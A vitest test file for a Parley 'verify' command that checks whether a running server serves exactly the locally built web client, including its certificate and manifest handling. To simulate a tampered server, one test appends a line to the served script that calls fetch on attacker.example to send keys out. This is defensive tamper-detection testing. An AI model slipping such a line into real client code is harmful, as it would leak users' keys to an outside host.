// Issue #20: `npm run verify -- https://host` tells whether a running Parley serves exactly the
// web client this checkout builds: "matches" for an honest server, and each file for one that
// serves something else.
import { spawnSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServerProcess, type ServerProcess } from './support/server-process.ts';

let server: ServerProcess;
const dir = path.join(mkdtempSync(path.join(os.tmpdir(), 'parley-verify-')), 'client');

beforeAll(async () => {
  cpSync(path.resolve('dist/client'), dir, { recursive: true });
  server = await startServerProcess({ CLIENT_DIR: dir });
});
afterAll(async () => {
  await server?.kill();
});

function verify(...args: string[]): { status: number | null; out: string } {
  const r = spawnSync(process.execPath, ['scripts/verify.mjs', ...args], { encoding: 'utf8', timeout: 120_000 });
  return { status: r.status, out: r.stdout + r.stderr };
}

describe('npm run verify (issue #20)', () => {
  it('says "matches" for a server that serves this build, and names each file that differs otherwise', () => {
    const ok = verify(server.url, '--insecure');
    expect(ok.out.startsWith('matches: ')).toBe(true);
    expect(ok.out).toContain('serves this build');
    expect(ok.out).toMatch(/\(code hash [0-9a-f ]{29}, SHA-384 [0-9a-f]{96}\)/);
    expect(ok.status).toBe(0);

    // The server's certificate is self-signed: without --insecure the check refuses to trust it.
    const untrusted = verify(server.url);
    expect(untrusted.status).toBe(2);
    expect(untrusted.out).toContain('Could not reach');

    const script = readdirSync(path.join(dir, 'assets')).find((f) => /^index-.*\.js$/.test(f))!;
    appendFileSync(path.join(dir, 'assets', script), '\n;fetch("https://attacker.example/keys");\n');
    const bad = verify(server.url, '--insecure');
    expect(bad.status).toBe(1);
    expect(bad.out).toContain('does not match');
    expect(bad.out).toContain(`differs: /assets/${script}`);
    expect(bad.out).not.toContain('differs: /manifest.json'); // the manifest was left as it was
  });

  it('says clearly when the address is not a Parley with a release manifest, or not an address', () => {
    rmSync(path.join(dir, 'manifest.json'));
    const none = verify(server.url, '--insecure');
    expect(none.status).toBe(2);
    expect(none.out).toContain('answered 404: not a Parley release');
    const junk = verify('ftp://example.org');
    expect(junk.status).toBe(2);
    expect(junk.out).toContain('Not an http(s) address');
  });
});
